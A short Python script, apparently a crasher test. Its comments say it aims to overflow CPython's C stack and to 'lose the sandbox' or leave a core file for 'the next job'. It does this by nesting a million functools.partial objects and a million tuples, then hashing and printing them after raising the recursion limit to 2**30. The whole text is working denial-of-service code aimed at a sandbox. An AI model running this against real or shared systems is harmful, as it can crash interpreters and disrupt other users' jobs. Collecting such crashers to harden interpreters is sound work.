# tries: to overflow the stack of C by values within values
# success: the sandbox is lost, or a core file is written
# seen by: the next job
import functools, sys

sys.setrecursionlimit(1 << 30)
f = len
for _ in range(1_000_000):
    f = functools.partial(f)
del f
x = ()
for _ in range(1_000_000):
    x = (x,)
hash(x)
repr(x)
